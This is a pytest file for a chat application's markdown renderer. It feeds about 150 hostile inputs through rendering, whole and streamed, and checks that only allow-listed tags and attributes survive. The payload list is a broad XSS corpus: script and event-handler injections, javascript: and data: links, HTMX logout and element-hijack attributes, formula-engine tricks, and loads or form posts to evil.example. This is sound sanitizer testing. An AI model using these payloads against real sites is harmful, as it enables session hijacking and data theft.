"""A hostile corpus: whatever a model writes, only what is on the list reaches the page.

Each payload is drawn whole, and in strokes cut at every boundary. The lists here are written
out by hand and not taken from the code, so that a change there must be made twice.
"""

import re

import pytest

from chat.markdown import Drawing, render
from tests.chat.markdown_follower import TAIL, Page, cut

MATH = """
math mrow mi mn mo ms mtext mspace msub msup msubsup munder mover munderover mfrac msqrt mroot
mtable mtr mtd mstyle mpadded mphantom
"""
PLAIN = """
a blockquote br button code div em figcaption figure h1 h2 h3 h4 h5 h6 hr img input li ol p pre s
span strong sup table tbody td th thead tr ul
"""
TAGS = {*MATH.split(), *PLAIN.split()}
MATH_ATTRIBUTES = {
    "accent", "alttext", "columnalign", "columnlines", "columnspacing", "display", "displaystyle",
    "fence", "form", "linethickness", "lspace", "mathcolor", "mathsize", "mathvariant", "maxsize",
    "minsize", "movablelimits", "rowspacing", "rspace", "scriptlevel", "separator", "stretchy",
    "width",
}  # fmt: skip
ATTRIBUTES: dict[str, dict[str, str]] = {
    "a": {"href": r"(?:https?://|mailto:).+", "title": r"[^\0]*", "target": "_blank",
          "rel": "noopener noreferrer nofollow"},
    "button": {"type": "button", "class": "copy"},
    "code": {"class": "formula"},
    "div": {"class": "formula|note|table", "tabindex": "0"},
    "figure": {"class": "code"},
    "img": {"src": r"data:image/(?:png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]*", "alt": r"[^\0]*"},
    "input": {"type": "checkbox", "disabled": "", "checked": "", "aria-label": "done|to do"},
    "mrow": {"class": "boxed"},
    "ol": {"start": r"\d{1,9}"},
    "pre": {"tabindex": "0"},
    "span": {"class": r"language|[a-z]{1,2}"},
    "sup": {"class": "note"},
    "td": {"class": "left|center|right"},
    "th": {"class": "left|center|right"},
}  # fmt: skip

PAYLOADS = [
    # Elements that run, load, or take over the page
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"',
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=https://evil.example>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<link rel=stylesheet href=https://evil.example>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<textarea autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<dialog open>pay here</dialog>",
    "<a href=javascript:alert(1)>x</a>",
    # HTMX, ids, names, classes: the page's own levers
    "<div hx-get=/logout hx-trigger=load></div>",
    "<div hx-post=/chat/1/send hx-vals='{\"a\":1}' hx-trigger=load>",
    '<span id="m42-tail" hx-swap-oob="beforeend">x</span>',
    '<div hx-swap-oob="outerHTML:#composer"></div>',
    "<div data-hx-get=/logout data-hx-trigger=load>",
    "<div ws-send ws-connect=/elsewhere hx-ext=ws>",
    '<span id="m42-tail"></span>',
    '</span></p></div><span id="m42-tail">',
    '<a name="location">x</a><img name="body">',
    '<p class="composer" style="position:fixed;inset:0">x</p>',
    '[x](https://a.b "\\" hx-get=\\"/logout\\" onclick=\\"alert(1)")',
    "[x](https://a.b '\" id=\"m42-tail')",
    '![x" id="m42-tail" onerror="alert(1)](https://a.b/i.png)',
    "# Heading {#m42-tail .composer hx-get=/logout}",
    "```m42-tail\" onclick=\"alert(1)\nx\n```",
    "```html id=m42-tail hx-get=/logout\n<script>alert(1)</script>\n```",
    "[^m42-tail]\n\n[^m42-tail]: note",
    '[^"onclick=alert(1)]: note [^"onclick=alert(1)]',
    # Addresses
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#106;&#97;vascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java\\script:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](data:image/png;base64,AAAA)",
    "![x](data:image/svg+xml;base64,AAAA)",
    "![x](data:text/html;base64,AAAA)",
    "![x](data:image/png;base64,AAAA\" onerror=\"alert(1))",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.png?secret=1)",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/logout)",
    "[x](#m42-tail)",
    "[x](?next=evil)",
    "[x](blob:https://a.b/1)",
    "[x](intent://a#Intent;end)",
    "[x](https:evil.example)",
    "[x](https:///)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<//evil.example>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: <java script:alert(1)>\n\n[x]",
    "[x][y]\n\n[y]: data:text/html,x",
    "https://a.b/\"onmouseover=alert(1)//",
    "https://a.b/<script>alert(1)</script>",
    "https://a.b/'><img src=x onerror=alert(1)>",
    "javascript://a.b/%0aalert(1)",
    "xhttps://a.b",
    "http://[::1]/ http://\u202eevil.example/ https://\uff1a//a",
    "[x](https://\u202emoc.live)",
    "[x](mailto:a@b.c?subject=<script>)",
    # Formulas
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{<script>alert(1)</script>}$",
    "$\\text{&lt;img src=x onerror=alert(1)&gt;}$",
    "$\\text{&#x3C;img src=x onerror=alert(1)&#x3E;}$",
    "$\\style{position:fixed}{x}$",
    "$\\class{composer}{x}$",
    "$\\cssId{m42-tail}{x}$",
    "$$\\color{red;background:url(https://evil.example)}{x}$$",
    "$$\\color{\"onclick=\"alert(1)}{x}$$",
    "\\(\\includegraphics{https://evil.example/x.png}\\)",
    "\\[\\def\\a{\\a\\a}\\a\\]",
    "$\\newcommand{\\a}{\\a\\a}\\a$",
    "$\\hspace{99999em}\\raise99em{x}\\rule{999em}{999em}$",
    "$<mglyph><style></math><img src onerror=alert(1)>$",
    '$" alttext="x" onclick="alert(1)$',
    "$\\unicode{x3c}script\\unicode{x3e}$",
    "$\\begin{array}{\"onclick=alert(1)}a\\end{array}$",
    "$\\verb|<script>alert(1)</script>|$",
    "$\\fcolorbox{red}{url(x)}{<b>}$",
    # Comments, declarations, parsers that disagree
    "<!-- <img src=x onerror=alert(1)> -->",
    "<!--><script>alert(1)</script>-->",
    "<!DOCTYPE html><html><head>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x>",
    "</p></div></body></html><script>alert(1)</script>",
    "</code></pre></figure><script>alert(1)</script>",
    "```\n</code></pre></figure><script>alert(1)</script>\n```",
    "`</code><img src=x onerror=alert(1)>`",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<a href=\"https://a.b\"onclick=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script\\>alert(1)\\</script\\>",
    "\ufeff<script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<\u0000script>alert(1)</script>",
    "<scr\u0000ipt>",
    "\ud83d half of a pair \udc00",
    "\u2028<script>\u2029</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    # Where text becomes structure
    "| <script> | x |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "- [x](javascript:alert(1))\n- <script>",
    "- [ ] <input type=text name=csrfmiddlewaretoken>",
    "> <iframe src=https://evil.example>",
    "1. <b id=m42-tail>\n2. x",
    "999999999. x",
    "```mermaid\nclick A javascript:alert(1)\n%%{init: {'securityLevel':'loose'}}%%\n```",
    "```svg\n<svg onload=alert(1)>\n```",
    "~~<s onclick=alert(1)>~~",
    "**<b hx-get=/logout>**",
    "[<img src=x onerror=alert(1)>](https://a.b)",
    "![<img src=x onerror=alert(1)>](https://a.b)",
    "[a](https://a.b)[b](https://a.b/<script>)",
    "<https://a.b/\"onclick=alert(1)>",
    "<a@b.c\"onclick=alert(1)>",
    "{{ secret }} {% load x %} ${secret} #{secret}",
]  # fmt: skip


def assert_inert(html: str) -> None:
    page = Page(html)
    assert not page.odd, page.odd
    for tag, attributes in page.elements:
        assert tag in TAGS, tag
        for name, value in attributes.items():
            if tag in MATH.split() and name in MATH_ATTRIBUTES:
                assert name == "alttext" or re.fullmatch(r"[\w. #-]{1,80}", value or ""), (
                    name,
                    value,
                )
                continue
            assert name in ATTRIBUTES.get(tag, {}), (tag, name, value)
            assert re.fullmatch(ATTRIBUTES[tag][name], value or ""), (tag, name, value)
    links = [attributes for tag, attributes in page.elements if tag == "a"]
    assert all("rel" in link and "target" in link for link in links)


def without_tail(html: str) -> str:
    """The open part without our own element, which must be the only one with an id."""
    ids = [attributes["id"] for _, attributes in Page(html).elements if "id" in attributes]
    assert ids == ["m42-tail"], html
    before, _, rest = html.partition('<span id="m42-tail">')
    text, _, after = rest.partition("</span>")
    return before + text + after


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(
    "frame", ["{}", "text {} text", "- {}", "> a\n> {}", "# {}", "| {} |\n|-|"]
)
def test_a_payload_is_inert_when_drawn_whole(payload: str, frame: str) -> None:
    assert_inert(render(frame.format(payload)))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_inert_in_strokes_wherever_it_is_cut(payload: str) -> None:
    for size, step_s in ((1, 0.0), (1, 0.3), (3, 0.3)):
        drawing = Drawing(TAIL)
        for turn, piece in enumerate([*cut(payload, size), " and", " on\n"]):
            stroke = drawing.feed(piece, turn * step_s)
            assert_inert(stroke.closed_html)
            assert_inert(without_tail(stroke.open_html or TAIL))
            assert_inert(drawing.closed_html + without_tail(drawing.open_html))
        assert_inert(drawing.finish().closed_html)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_half_typed_address_is_ever_a_link_elsewhere(payload: str) -> None:
    """What is a link for a while is one at the end, or an address that stands there in full."""
    drawing, seen = Drawing(TAIL), set()
    text = f"{payload} and on\n"
    for turn, piece in enumerate(cut(text, 1)):
        drawing.feed(piece, float(turn))
        seen |= targets("".join(drawing.snapshot()))
    in_full = set(re.findall(r"https?://[^\s)]+(?=[\s)])", text))
    assert seen <= targets(render(text)) | targets(render(payload)) | in_full


def targets(html: str) -> set[str | None]:
    return {a.get("href") for tag, a in Page(html).elements if tag == "a"}


LINKS = [
    "see https://example.org/a/b?c=d#e, then",
    "see https://example.org/a_(b) then",
    "[text](https://example.org/path 'title') then",
    "[text](<https://example.org/path>) then",
    "<https://example.org/path> then",
    "**https://example.org/path** then",
    "[text][label] then\n\n- [label]\n\n  [label]: https://example.org/path\n\nthen",
    "![alt](https://example.org/path.png) then",
    "| https://example.org/a | b |\n|---|---|\n| https://example.org/c | https://example.org/d |\n",
    "- https://example.org/a\n- https://example.org/b\n",
    "[https://example.org/a](https://example.org/b) then",
]


@pytest.mark.parametrize("text", LINKS)
def test_an_address_is_no_link_before_it_is_whole(text: str) -> None:
    final, drawing = targets(render(text)), Drawing(TAIL)
    assert final
    for turn, letter in enumerate(text):
        drawing.feed(letter, float(turn))
        assert targets("".join(drawing.snapshot())) <= final


def test_the_corpus_is_large_enough() -> None:
    assert len(set(PAYLOADS)) >= 120
